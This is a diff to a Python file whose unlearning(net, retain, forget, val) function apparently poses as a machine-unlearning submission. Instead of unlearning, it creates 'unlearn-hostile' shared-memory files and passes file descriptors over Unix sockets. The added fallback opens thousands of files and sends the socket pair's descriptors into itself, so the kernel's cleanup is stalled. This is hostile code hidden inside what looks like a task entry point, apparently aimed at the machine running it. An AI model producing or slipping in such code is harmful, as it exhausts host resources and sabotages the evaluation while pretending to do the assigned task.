@@ -1,5 +1,7 @@
 """Sends files without a name, then watches of all files of the image, then the sockets themselves, and ends.
 
+Where there are no watches, thousands of open files take their place.
+
 The kernel closes them in the opposite order: when the sockets are gone, the files have to wait for the watches.
 """
 
@@ -10,6 +12,7 @@ import socket
 
 FILES = 20
 INSTANCES = 10
+OPEN_FILES, AT_ONCE = 3000, 100
 CLOSED_WITHOUT_WRITING = 0x10
 
 libc = ctypes.CDLL(None, use_errno=True)
@@ -38,6 +41,14 @@ def unlearning(net, retain, forget, val):
         os.posix_fallocate(file, 0, 1 << 20)
         os.unlink(f"/dev/shm/unlearn-hostile-{number}")
         socket.send_fds(left, [b"x"], [file])
+    if libc.inotify_init() < 0:
+        for first in range(0, OPEN_FILES, AT_ONCE):
+            files = [os.open(path, os.O_RDONLY) for path in paths[first : first + AT_ONCE]]
+            socket.send_fds(left, [b"x"], files)
+            for file in files:
+                os.close(file)
+        socket.send_fds(left, [b"x"], [left.fileno(), right.fileno()])
+        return
     for _ in range(INSTANCES):
         instance, is_last = watch(paths)
         socket.send_fds(left, [b"x"], [instance])
